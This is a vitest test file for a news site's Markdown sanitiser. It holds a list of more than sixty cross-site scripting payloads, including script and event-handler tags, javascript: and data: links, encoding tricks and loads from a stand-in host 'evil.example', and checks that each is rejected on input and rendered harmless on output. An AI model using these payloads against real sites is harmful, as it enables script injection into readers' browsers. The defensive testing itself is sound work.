import { describe, expect, it } from 'vitest'
import { articleLimits, isLinkAllowed, isPictureAllowed } from '#domain/news/articles.ts'
import { markdownProblem, renderMarkdown } from './markdown.ts'

/** Text that tries to run in a reader's browser: as HTML, as a link, by Markdown's own corners, by odd characters. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src="x"/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src onerror=alert(1)>">',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x onpointerenter=alert(1)>x</x>',
  '<p id="root" name="app">x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example/x)',
  '[x](/\\evil.example)',
  '[x](/&#x2f;evil.example)',
  '[x](http://evil.example)',
  '[x](https://example.com"onmouseover="alert(1))',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '[![x](x" onerror="alert(1))](javascript:alert(1))',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '- [ ] <script>alert(1)</script>',
  '# <svg/onload=alert(1)>',
  '> <script>alert(1)</script>',
]

const tags = 'h2|h3|h4|p|ul|ol|li|blockquote|pre|hr|br|strong|em|del|code|a|img|table|thead|tbody|tr|th|td'
const attributes = 'href|title|rel|src|alt|loading|start|align'
const harmless = new RegExp(`^</?(${tags})( (${attributes})="[^"<>]*")*( /)?>$`)

/** What in a text could run, load or leave: read by its own rules, not by those of the library that made it. */
function dangers(html: string): string[] {
  const rest = html.replaceAll(/<[^<>]*>/g, (tag) => (harmless.test(tag) ? '' : tag))
  const insideTags = (html.match(/<[^<>]*>/g) ?? []).join('')
  const targets = [...insideTags.matchAll(/ (href|src)="([^"]*)"/g)].filter(([, name, target = '']) => {
    const plain = target.replaceAll('&amp;', '&')
    return !(name === 'src' ? isPictureAllowed(plain) : isLinkAllowed(plain))
  })
  return [...(rest.match(/[<>]/g) ?? []), ...targets.map(([target]) => target)]
}

describe('text that would run in the reader’s browser', () => {
  it('is more than sixty kinds', () => {
    expect(new Set(attacks).size).toBe(attacks.length)
    expect(attacks.length).toBeGreaterThanOrEqual(60)
  })

  it.each(attacks)('is refused on the way in: %s', (attack) => {
    expect(markdownProblem(attack)).not.toBeNull()
    expect(markdownProblem(`## Heading\n\nSome text.\n\n${attack}\n\nMore.`)).not.toBeNull()
  })

  it.each(attacks)('is harmless on the way out: %s', (attack) => {
    for (const text of [attack, `- a\n- ${attack}`, `a **b ${attack} c** d`, `${attack}\n${attack}`]) {
      expect(dangers(renderMarkdown(text)), renderMarkdown(text)).toEqual([])
    }
  })

  it('would be noticed by this test', () => {
    for (const bad of [
      '<script>x</script>',
      '<p onclick="x">x</p>',
      '<a href="javascript:x">x</a>',
      '<img src="https://evil.example/x.png" />',
    ])
      expect(dangers(bad), bad).not.toEqual([])
  })
})

describe('what an article may hold', () => {
  it('is headings, lists, tables, quotes, code, links and pictures of this site', () => {
    const text = [
      '# Free time',
      '',
      'Between **discharge** and *gate-out*; see [the tariff](https://www.example.com/a?b=1&c=2#d),',
      '[ask us](mailto:hello@sampan.example) or [search](/quote/search).',
      '',
      '| Port | Days |',
      '| :- | -: |',
      '| NLRTM | 7 |',
      '',
      '3. three',
      '4. four',
      '',
      '> quoted, 5 < 6 & 7 > 6',
      '',
      '`<b>` is code',
      '',
      '![A quay](/static/quay.png)',
    ].join('\n')
    expect(markdownProblem(text)).toBeNull()
    const html = renderMarkdown(text)
    expect(dangers(html)).toEqual([])
    for (const part of [
      '<h2>Free time</h2>',
      '<strong>discharge</strong>',
      '<a href="https://www.example.com/a?b=1&amp;c=2#d" rel="noopener">the tariff</a>',
      '<a href="mailto:hello@sampan.example">ask us</a>',
      '<a href="/quote/search">search</a>',
      '<td align="right">7</td>',
      '<ol start="3">',
      '5 &lt; 6 &amp; 7 &gt; 6',
      '<code>&lt;b&gt;</code>',
      '<img src="/static/quay.png" alt="A quay" loading="lazy" />',
    ])
      expect(html).toContain(part)
  })

  it('names the place of what is refused', () => {
    expect(markdownProblem('a\n\nb <b>c</b>')).toEqual({ code: 'news.rawHtml', text: '<b>' })
    expect(markdownProblem('[x](http://example.com)')).toEqual({
      code: 'news.linkNotAllowed',
      text: 'http://example.com',
    })
  })

  it.each(['[', '*a ', '`', '> ', '<', '![', '[a](', '| a ', '- ', '_*', '\\', '&', 'a@', '    '])(
    'takes no long time to read, whatever it repeats: %s',
    (piece) => {
      const text = piece.repeat(Math.floor(articleLimits.body / piece.length))
      const started = performance.now()
      markdownProblem(text)
      expect(dangers(renderMarkdown(text))).toEqual([])
      expect(performance.now() - started).toBeLessThan(3_000)
    },
  )
})
